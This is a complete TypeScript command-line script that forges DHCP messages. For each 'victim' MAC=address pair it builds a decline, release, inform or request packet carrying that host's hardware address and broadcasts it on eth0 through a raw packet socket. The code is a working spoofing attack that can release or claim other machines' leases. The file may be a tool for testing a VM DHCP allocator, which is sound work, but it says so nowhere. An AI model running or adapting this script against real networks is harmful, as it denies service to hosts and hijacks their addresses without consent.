// Run inside a machine: `node send-forged-messages.js decline|release|inform|request SERVER MAC=ADDRESS...` sends one such message in the name of each.
import { encodeMessage, macAddressBytes, parseIpv4Address } from '@vmdhcp/dhcp-allocator';
import { PacketSocket } from '@vmdhcp/linux-sockets';

const [, , type, server = '', ...victims] = process.argv;
const TYPES: Record<string, number> = { request: 3, decline: 4, release: 7, inform: 8 };
const octets = (address: string) => Uint8Array.from(address.split('.'), Number);
const socket = new PacketSocket('eth0');
for (const [xid, victim] of victims.entries()) {
  const [macAddress = '', address = ''] = victim.split('=');
  const isClaim = type === 'decline' || type === 'request';
  const { bytes } = encodeMessage({
    ...{ op: 1, htype: 1, hlen: 6, hops: 0, xid, secs: 0, flags: 0, yiaddr: 0, siaddr: 0, giaddr: 0 },
    ciaddr: isClaim ? 0 : (parseIpv4Address(address) ?? 0),
    chaddr: macAddressBytes(macAddress),
    sname: new Uint8Array(0),
    file: new Uint8Array(0),
    options: [
      [53, Uint8Array.of(TYPES[type ?? ''] ?? 0)],
      ...(isClaim ? [[50, octets(address)] as const] : []),
      [54, octets(server)],
    ],
  });
  socket.broadcast(bytes, { sourceAddress: 0, sourcePort: 68, destinationAddress: 0xffff_ffff, destinationPort: 67 });
}
socket.close();
